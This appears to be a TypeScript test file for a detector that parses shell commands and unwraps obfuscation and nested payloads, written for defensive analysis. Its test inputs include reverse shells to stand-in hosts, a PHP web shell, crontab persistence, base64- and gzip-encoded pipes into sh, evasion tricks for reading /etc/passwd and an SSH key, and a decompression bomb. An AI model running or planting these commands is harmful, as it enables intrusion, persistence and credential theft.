import fc from 'fast-check';
import { gzipSync, strToU8, zlibSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { readCommand } from './read_command';
import type { CommandReading, ReadCommand } from './command_reading';
import { READING_LIMITS } from './reading_limits';

const read = (script: string): CommandReading => readCommand(['sh', '-c', script]);

/** The commands of a script and of all that it carries, without the shell that got it. */
const commandsOf = (script: string): readonly ReadCommand[] => read(script).commands.slice(1);

const linesOf = (script: string): readonly string[] =>
  commandsOf(script).map(({ program, args }) => [program, ...args].join(' '));

const toBase64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64');

test('arguments are a layer of their own, quoted as one would type them', () => {
  const { layers } = readCommand(['grep', '-r', "it's", '', '/srv/my site']);
  expect(layers).toEqual([
    {
      kind: 'argv',
      language: 'shell',
      text: `grep -r 'it'\\''s' '' '/srv/my site'`,
      depth: 0,
      isIncomplete: false,
    },
  ]);
});

test.each([
  [['/usr/bin/mawk', '1'], 'awk'],
  [['nc.traditional', '-l'], 'nc'],
  [['/usr/bin/python3.11'], 'python'],
  [['php8.2', '-v'], 'php'],
  [['-bash'], 'bash'],
  [['nginx: worker process'], 'nginx'],
  [['/tmp/x (deleted)'], 'x'],
  [['busybox', 'wget', 'x'], 'wget'],
  [['/lib64/ld-linux-x86-64.so.2', '/bin/id'], 'id'],
  [['for', 'a'], 'for'],
  [['A=1'], 'A=1'],
  [[], ''],
])('%j runs %s', (args, program) => {
  expect(readCommand(args).commands.map((command) => command.program)).toEqual(
    program === '' ? [] : [program]
  );
});

describe('a text is split as a shell splits it', () => {
  test.each<[string, readonly string[]]>([
    ['id; uname -a', ['id', 'uname -a']],
    ['id && whoami || pwd & ls', ['id', 'whoami', 'pwd', 'ls']],
    ['cat a | sort |& uniq', ['cat a', 'sort', 'uniq']],
    ['(cd /tmp; id)', ['cd /tmp', 'id']],
    ['{ id; whoami; }', ['id', 'whoami']],
    ['((id))', ['id']],
    ['((i++)); id', ['id']],
    ['! id', ['id']],
    [
      'if test -f x; then id; elif pwd; then ls; else who; fi',
      ['test -f x', 'id', 'pwd', 'ls', 'who'],
    ],
    ['for x in a b; do cat $x; done', ['cat $x']],
    ['for x in /etc/passwd; do cat $x; done', ['cat /etc/passwd']],
    ['for ((i=0;i<3;i++)); do id; done', ['id']],
    ['while read l; do echo $l; done', ['read l', 'echo $l']],
    ['case $1 in a|b) id;; (c) ls;; *) who; esac', ['id', 'ls', 'who']],
    ['f() { id; }; f', ['id', 'f']],
    ['function f { id; }', ['id']],
    ['[[ -f /x && -d /y ]] && id', ['[[ -f /x && -d /y ]]', 'id']],
    ['id # whoami', ['id']],
    ['echo a#b', ['echo a#b']],
    ['echo a\\\nb', ['echo ab']],
    ['id\n\nwhoami', ['id', 'whoami']],
    ['id;;whoami', ['id', 'whoami']],
    ['done; id', ['id']],
    ['id ) whoami', ['id', 'whoami']],
    [`echo 'a b' "c d" e\\ f`, ['echo a b c d e f']],
    ['echo "a $((1+2)) b"', ['echo a $((1+2)) b']],
  ])('%s', (script, lines) => {
    expect(linesOf(script)).toEqual(lines);
  });

  test('quotes keep blanks and signs within one argument', () => {
    const [command] = commandsOf(`echo 'a; b' "c | d" e\\;f`);
    expect(command?.args).toEqual(['a; b', 'c | d', 'e;f']);
  });

  test('pipes, operators, background and subshells are kept with the command', () => {
    const commands = commandsOf('a | b && (c; d) | e & f');
    const shown = commands.map(
      ({ program, operator, stage, isPipedFrom, isPipedInto, ...rest }) => [
        program,
        operator,
        stage,
        isPipedFrom,
        isPipedInto,
        rest.isInBackground,
        rest.isInSubshell,
      ]
    );
    expect(shown).toEqual([
      ['a', '', 0, false, true, false, false],
      ['b', '', 1, true, false, false, false],
      ['c', '&&', 0, false, true, true, true],
      ['d', ';', 0, false, true, true, true],
      ['e', '', 1, true, false, true, false],
      ['f', '&', 0, false, false, false, false],
    ]);
    const [a, b, c, d, e, f] = commands.map(({ pipeline }) => pipeline);
    expect([a === b, c === d, c === e, b === c, e === f]).toEqual([true, true, true, false, false]);
  });

  test('what a loop does with the lines of a pipe belongs to that pipe', () => {
    const commands = commandsOf('a | while read l; do b "$l"; c | d; done; e');
    const [first] = commands;
    const isOfFirst = commands.map(({ pipeline }) => pipeline === first?.pipeline);
    expect(isOfFirst).toEqual([true, true, true, false, false, false]);
  });

  test('redirections are kept, those around a group with each command in it', () => {
    const [bash, first, second] = commandsOf(
      'bash -i >& /dev/tcp/10.0.0.1/9 0>&1 2>>/tmp/log <in; { id; pwd; } &> /tmp/out'
    );
    expect(bash?.redirections).toEqual([
      { op: '>&', fd: 1, target: '/dev/tcp/10.0.0.1/9' },
      { op: '>&', fd: 0, target: '1' },
      { op: '>>', fd: 2, target: '/tmp/log' },
      { op: '<', fd: 0, target: 'in' },
    ]);
    const around = [{ op: '&>', fd: 1, target: '/tmp/out' }];
    expect([first?.redirections, second?.redirections]).toEqual([around, around]);
  });

  test('globs are kept and marked', () => {
    const [command] = commandsOf(`ls -l *.php 'a*' b?`);
    expect(command?.args).toEqual(['-l', '*.php', 'a*', 'b?']);
    expect(command?.globs).toEqual([1, 3]);
  });

  test.each([
    'echo "open; id',
    "echo 'open",
    'echo $(id',
    'echo `id',
    '(id',
    'if id; then ls',
    'cat <<E\nx',
  ])('%j is read as far as it goes, and said to be incomplete', (script) => {
    const { layers, commands } = read(script);
    expect(layers[1]?.isIncomplete).toBe(true);
    expect(commands.length).toBeGreaterThan(1);
  });
});

describe('what hides a command is undone and named', () => {
  test.each([
    ['w""hoami', 'whoami', ['quotes']],
    ["w'h'oami", 'whoami', ['quotes']],
    ['who\\ami', 'whoami', ['escape']],
    ["$'\\x69\\144'", 'id', ['ansi_c']],
    ['cat$IFS/etc/passwd', 'cat /etc/passwd', ['ifs']],
    ['cat${IFS}/etc/passwd', 'cat /etc/passwd', ['ifs']],
    ['cat$IFS$9/etc/passwd', 'cat /etc/passwd', ['ifs']],
    ['IFS=,;a=cat,/etc/passwd;$a', 'cat /etc/passwd', ['variable']],
    ['a=who;b=ami;$a$b', 'whoami', ['variable']],
    ['a=imaohw; ${a} x', 'imaohw x', ['variable']],
    ['a=xwhoamix; ${a:1:6}', 'whoami', ['variable']],
    ['a=w_h_oami; ${a//_/}', 'whoami', ['variable']],
    ['a=WHOAMI; ${a,,}', 'whoami', ['variable']],
    ['${x:-id} -a', 'id -a', ['variable']],
    ['b=id; a=b; ${!a}', 'id', ['variable']],
    ['a=(id -u); ${a[@]}', 'id -u', ['variable']],
    ['export a=id; $a', 'id', ['variable'], 1],
    ['w$@hoami', 'whoami', ['variable']],
    ['wh${x}oami', 'whoami', ['variable']],
    ['who$u""ami', 'whoami', ['variable', 'quotes']],
    ['${PATH:0:1}bin${PATH%%u*}id', 'id', ['variable']],
    ['/???/b?n/wh?ami', 'whoami', ['glob']],
    ['/bin/c[a]t /etc/passwd', 'cat /etc/passwd', ['glob']],
    ['{cat,/etc/passwd}', 'cat /etc/passwd', ['braces']],
    ['$(echo id) -a', 'id -a', ['substitution']],
    ['`printf "\\151\\144"`', 'id', ['substitution']],
    ['$(rev<<<imaohw)', 'whoami', ['substitution']],
  ])('%s', (script, line, tricks, place = 0) => {
    const command = commandsOf(script)[place];
    expect([command?.program, ...(command?.args ?? [])].join(' ')).toBe(line);
    expect([...(command?.tricks ?? [])].sort()).toEqual([...tricks].sort());
  });

  test.each([
    `tar -czf "/srv/my site/a.tgz" -C '/srv/data' .`,
    `mysql -p"secret" --execute="select 1"`,
    `"/usr/bin/git" --version`,
    `file -b --mime '/srv/it'\\''s.jpg'`,
    `find . -name '*.php' -exec grep -l x {} \\;`,
    `echo $HOME/"$x".txt ~/a *.log {a,b}`,
    `printf %s\\n a`,
  ])('%s hides nothing', (script) => {
    expect(commandsOf(script).flatMap(({ tricks }) => tricks)).toEqual([]);
  });

  test('what nothing tells stays as written', () => {
    expect(linesOf('cat "$HOME/.ssh/id_rsa" $x ~/a ${y} $(date)')[0]).toBe(
      'cat $HOME/.ssh/id_rsa $x ~/a $y $(date)'
    );
  });
});

test.each<[string, string, readonly string[]]>([
  ['sudo -u root -n env A=1 B=2 timeout -s 9 5 id -a', 'id -a', ['sudo', 'env', 'timeout']],
  ['nohup setsid stdbuf -o0 nice -n 5 id', 'id', ['nohup', 'setsid', 'stdbuf', 'nice']],
  ['exec -a x chroot /mnt id', 'id', ['exec', 'chroot']],
  ['busybox nc -l', 'nc -l', ['busybox']],
  ['sudo -l', 'sudo -l', []],
  ['env', 'env', []],
  ['command -v git', 'command -v git', []],
  ['echo a b | xargs -n1 cat', 'cat a b', ['xargs']],
  ['echo /etc/passwd | xargs -I% cat %', 'cat /etc/passwd', ['xargs']],
  ['find / -exec id {} +', 'id {}', ['find']],
  ['docker exec -u root web id', 'id', ['docker']],
])('%s: wrappers are taken off and recorded', (script, line, wrappers) => {
  const command = commandsOf(script).at(-1);
  expect([command?.program, ...(command?.args ?? [])].join(' ')).toBe(line);
  expect(command?.wrappers).toEqual(wrappers);
});

test('what env and sudo set counts as assigned', () => {
  expect(commandsOf('A=1 env B=2 id')[0]?.assignments).toEqual([
    { name: 'A', value: '1' },
    { name: 'B', value: '2' },
  ]);
});

describe('texts that a command carries are layers of their own', () => {
  const gzip = toBase64(gzipSync(strToU8('id; whoami'), { mtime: 0 }));
  const zlib = toBase64(zlibSync(strToU8('print(1)')));
  test.each<[string, string, string, string]>([
    ["bash -lc 'id'", 'script', 'shell', 'id'],
    ['eval "id; pwd"', 'script', 'shell', 'id; pwd'],
    ["su -c 'id' www", 'script', 'shell', 'id'],
    ["python3 -Bc 'import os'", 'script', 'python', 'import os'],
    ["perl -MSocket -e 'print 1'", 'script', 'perl', 'print 1'],
    ["php -d a=b -r 'phpinfo();'", 'script', 'php', 'phpinfo();'],
    ["ruby -rsocket -e 'puts 1'", 'script', 'ruby', 'puts 1'],
    ["node --eval='1'", 'script', 'node', '1'],
    ["awk -F: '{print $1}' /etc/passwd", 'script', 'awk', '{print $1}'],
    ['socat TCP:1.2.3.4:9 EXEC:"id -a",pty', 'script', 'shell', 'id -a'],
    ['nc -e /bin/sh 1.2.3.4 9', 'script', 'shell', '/bin/sh'],
    ['tar cf a b --checkpoint-action=exec=id', 'script', 'shell', 'id'],
    ['/tmp/.x -c id', 'script', 'shell', 'id'],
    ['echo $(id)', 'substitution', 'shell', 'id'],
    ['echo `id`', 'substitution', 'shell', 'id'],
    ['cat <(id)', 'substitution', 'shell', 'id'],
    ['x=$(id)', 'substitution', 'shell', 'id'],
    ['echo $(( $(id) ))', 'substitution', 'shell', 'id'],
    ['echo ${x:-$(id)}', 'substitution', 'shell', 'id'],
    ['echo id | sh', 'input', 'shell', 'id\n'],
    ['bash <<< id', 'input', 'shell', 'id\n'],
    ["sh <<'E'\nid $x\nE", 'input', 'shell', 'id $x\n'],
    ['python3 - <<-E\n\timport os\n\tE', 'input', 'python', 'import os\n'],
    ['bash <(echo id)', 'input', 'shell', 'id\n'],
    ['. /dev/stdin <<< id', 'input', 'shell', 'id\n'],
    ['(crontab -l; echo "*/5 * * * * /tmp/x") | crontab -', 'input', 'shell', '/tmp/x\n'],
    ["printf '#!/bin/sh\\nid\\n' > /tmp/r", 'file', 'shell', '#!/bin/sh\nid\n'],
    ["echo '<?php @eval($_POST[1]);?>' > a.inc", 'file', 'php', '<?php @eval($_POST[1]);?>\n'],
    ['echo aWQ= | base64 -d', 'base64', 'text', 'id'],
    ['echo aWQ= | base64 --decode | sh', 'base64', 'shell', 'id'],
    ['openssl enc -base64 -d <<< aWQ= | sh', 'base64', 'shell', 'id'],
    ['echo NFSA==== | base32 -d | sh', 'base32', 'shell', 'id'],
    ['echo 6964 | xxd -r -p | sh', 'hex', 'shell', 'id'],
    ["printf '\\x69\\144' | sh", 'escapes', 'shell', 'id'],
    ["echo -e '\\x69d' | sh", 'escapes', 'shell', 'id\n'],
    ['echo di | rev | sh', 'reversed', 'shell', 'id'],
    ['echo vq | tr a-z n-za-m | sh', 'translated', 'shell', 'id\n'],
    [`echo ${gzip} | base64 -d | gunzip | sh`, 'gzip', 'shell', 'id; whoami'],
    [`echo ${gzip} | base64 -d | gzip -dc`, 'gzip', 'text', 'id; whoami'],
    [
      `python3 -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode("${zlib}")))'`,
      'zlib',
      'python',
      'print(1)',
    ],
    ['curl "http://h/?q=%63at%20/etc"', 'url', 'text', 'curl "http://h/?q=cat /etc"'],
    ['php x.php d2hvYW1pOyBpZCAtYQ==', 'base64', 'text', 'whoami; id -a'],
    ['./x 69643b20756e616d65', 'hex', 'text', 'id; uname'],
  ])('%s', (script, kind, language, text) => {
    expect(read(script).layers).toContainEqual(expect.objectContaining({ kind, language, text }));
  });

  test('the layer names the layer and the command that carry it', () => {
    const { layers, commands } = read("id; bash -c 'echo aWQ= | base64 -d | sh'");
    const [, , inner, decoded] = layers;
    expect([inner?.from, decoded?.from]).toEqual([1, 2]);
    expect(commands[inner?.command ?? -1]?.program).toBe('bash');
    expect(commands[decoded?.command ?? -1]?.program).toBe('sh');
    expect(layers.map(({ depth }) => depth)).toEqual([0, 1, 2, 3]);
  });

  test('a script knows its arguments and what was assigned around it', () => {
    expect(linesOf(`a=id; sh -c '$a; $0 $1' cat /etc/passwd`).slice(1)).toEqual([
      'id',
      'cat /etc/passwd',
    ]);
  });
});

describe('code of interpreters', () => {
  test.each<[string, string]>([
    [`python3 -c 'import os; os.system("id")'`, 'id'],
    [`python3 -c 'import subprocess as s;s.call(["ls","-la","/a b"])'`, 'ls -la /a b'],
    [`python3 -c '__import__("os").popen("id").read()'`, 'id'],
    [`python3 -c 'import os;os.execl("/bin/ls","ls","-l")'`, 'ls -l'],
    [`python3 -c 'import pty;pty.spawn("/bin/bash")'`, 'bash'],
    [`python3 -c 'c="i"+"d";import os;os.system(c)'`, 'id'],
    [
      `python3 -c 'exec(bytes.fromhex("696d706f7274206f733b6f732e73797374656d282769642729").decode())'`,
      'id',
    ],
    [`perl -e 'print \`id\`'`, 'id'],
    [`perl -e 'system "ls", "-l";'`, 'ls -l'],
    [`perl -e 'exec("/bin/sh -i");'`, 'sh -i'],
    [`perl -e 'print qx{id -a}'`, 'id -a'],
    [`perl -e 'open(F,"id|");'`, 'id'],
    [`perl -MMIME::Base64 -e 'system(decode_base64("aWQ="))'`, 'id'],
    [`php -r 'system("id");'`, 'id'],
    [`php -r '$c="i"."d"; shell_exec($c);'`, 'id'],
    [`php -r 'eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));'`, 'id'],
    [`php -r 'passthru(str_rot13("vq"));'`, 'id'],
    [`php -r 'exec(strrev("di"));'`, 'id'],
    [`php -r 'exec("\\x69\\x64");'`, 'id'],
    [`ruby -e 'puts %x(id)'`, 'id'],
    [`ruby -e 'exec "/bin/sh"'`, 'sh'],
    [`node -e 'require("child_process").execSync("id")'`, 'id'],
    [`node -e 'require("child_process").spawn("sh",["-i"])'`, 'sh -i'],
    [
      `node -e 'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=","base64").toString())'`,
      'id',
    ],
    [`awk 'BEGIN{system("id")}'`, 'id'],
    [`lua -e 'os.execute("x") io.popen("id")'`, 'id'],
  ])('%s', (script, line) => {
    expect(linesOf(script)).toContain(line);
  });
});

describe('bounds', () => {
  test('a bomb is inflated only as far as a layer goes', () => {
    const bomb = toBase64(gzipSync(new Uint8Array(50_000_000).fill(97), { mtime: 0 }));
    const { layers } = read(`echo ${bomb} | base64 -d | gunzip | sh`);
    const inflated = layers.find(({ kind }) => kind === 'gzip');
    expect(inflated?.text.length).toBe(READING_LIMITS.textLength);
  });

  test.each([
    ['a long text', 'a'.repeat(READING_LIMITS.textLength + 1)],
    ['many commands', 'a;'.repeat(READING_LIMITS.commands + 1)],
    ['deep texts', Array.from({ length: 20 }).reduce<string>((inner) => `$(cat ${inner})`, 'x')],
    ['many texts', 'a $(b);'.repeat(READING_LIMITS.layers + 1)],
    [
      'many braces',
      'echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b};'.repeat(30),
    ],
    ['doubled values', `a=${'a'.repeat(1000)};${'a=$a$a;'.repeat(100)}`],
  ])('%s: what was left out is said', (_, script) => {
    expect(read(script).isTruncated).toBe(true);
  });

  test('nothing is said where nothing was left out', () => {
    expect(read('id; $(a) | sh -c b').isTruncated).toBe(false);
  });
});

const FRAGMENTS = [
  ...'$ ( ) { } [ ] < > | & ; \\ " \' ` # ! * ? ~ = , . / - + % : @ \n'.split(' '),
  ' ',
  '$(',
  '${',
  '$((',
  '<<E\n',
  '<<<',
  '<(',
  '>&',
  '&&',
  ';;',
  "$'",
  '"$(',
  '{a,b}',
  '{1..9}',
  'a=',
  '$a',
  '$IFS',
  'if ',
  'then ',
  'fi',
  'for x in ',
  'do ',
  'done',
  'case x in ',
  'esac',
  'f()',
  'eval ',
  'sh -c ',
  'base64 -d',
  'echo ',
  'aWQ=',
  'xxd -r -p',
  'python3 -c ',
  'perl -e ',
  'system(',
  'base64_decode(',
  'xargs ',
  'find -exec ',
  'http://',
  '1.2.3.4',
  '\0',
  '\ud800',
  '😀',
  '\\x41',
  '%41',
];

test('any arguments give a reading within its bounds', () => {
  const word = fc.oneof(
    fc.string(),
    fc.array(fc.constantFrom(...FRAGMENTS)).map((parts) => parts.join(''))
  );
  fc.assert(
    fc.property(
      fc.constantFrom('sh', 'bash', 'python3', 'php', 'awk'),
      fc.array(word),
      (program, words) => {
        const limits = { ...READING_LIMITS, commands: 20, layers: 10, depth: 4, indicators: 10 };
        const { layers, commands, indicators } = readCommand([program, '-c', ...words], limits);
        expect(layers.length).toBeLessThanOrEqual(limits.layers);
        expect(commands.length).toBeLessThanOrEqual(limits.commands);
        expect(indicators.length).toBeLessThanOrEqual(limits.indicators);
        for (const { depth, from = -1 } of layers) {
          expect(depth).toBe(from === -1 ? 0 : (layers[from]?.depth ?? NaN) + 1);
          expect(depth).toBeLessThanOrEqual(limits.depth);
        }
        for (const { layer } of commands) expect(layers[layer]?.language).toBe('shell');
      }
    ),
    { numRuns: 2_000 }
  );
});
